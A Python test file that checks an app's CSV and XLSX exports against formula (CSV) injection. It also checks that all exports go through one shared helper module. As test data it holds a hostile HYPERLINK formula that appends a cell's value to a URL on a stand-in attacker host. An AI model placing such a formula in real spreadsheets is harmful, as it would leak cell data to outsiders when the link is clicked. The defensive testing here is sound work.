"""No CSV or XLSX either app writes can run a formula (OWASP CSV injection): a text that starts
with =, +, -, @, a tab or a carriage return gets an apostrophe in CSV and stays a string in XLSX.

Tested per export, with a hostile value stored where each export reads it, and one guard that
every CSV and XLSX in the apps is written through ``shared.spreadsheets``.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from shared.spreadsheets import FORMULA_STARTS, XlsxStream, csv_writer, safe_text, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?"&B9,"Xem")'


def assert_hostile_kept_as_text(csv_text: str, xlsx: bytes) -> None:
    """HOSTILE is in the CSV only behind an apostrophe, and in the XLSX only as a string."""
    cells = [cell for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for cell in row]
    assert f"'{HOSTILE}" in cells
    assert HOSTILE not in cells
    sheet = load_workbook(io.BytesIO(xlsx)).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert found
    assert {cell.data_type for cell in found} == {"s"}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    text = f"{start}SUM(A1:A9)"
    out = io.StringIO()

    csv_writer(out).writerow([text, 12, None, "Thôn Đông"])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{text}", "12", "", "Thôn Đông"]
    assert safe_text(-5) == -5


def test_xlsx_keeps_formula_text_as_a_string():
    book = Workbook()
    book.active["A1"] = HOSTILE
    book.active["A2"] = 7

    cells = load_workbook(io.BytesIO(xlsx_bytes(book))).active

    assert (cells["A1"].value, cells["A1"].data_type) == (HOSTILE, "s")
    assert (cells["A2"].value, cells["A2"].data_type) == (7, "n")


def test_the_streaming_xlsx_keeps_formula_text_as_a_string():
    stream = XlsxStream()
    sheet = stream.sheet("R5")
    sheet.append([HOSTILE, 7, "+1", sheet.cell(HOSTILE), "Thôn Đông"])
    out = io.BytesIO()
    stream.write_to(out)

    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(max_row=1))

    assert [(cell.value, cell.data_type) for cell in row] == [
        (HOSTILE, "s"), (7, "n"), ("+1", "s"), (HOSTILE, "s"), ("Thôn Đông", "s"),
    ]  # fmt: skip


def test_the_apps_write_csv_and_xlsx_only_through_shared_spreadsheets():
    offenders = []
    for path in sorted([*ROOT.glob("node/**/*.py"), *ROOT.glob("hub/**/*.py")]):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for item in ast.walk(tree):
            if not isinstance(item, ast.Attribute):
                continue
            if item.attr in ("writer", "DictWriter") and getattr(item.value, "id", "") == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{item.lineno} csv.{item.attr}")
            if item.attr == "save" and "book" in ast.unparse(item.value).lower():
                offenders.append(f"{path.relative_to(ROOT)}:{item.lineno} {ast.unparse(item)}")

    assert offenders == []
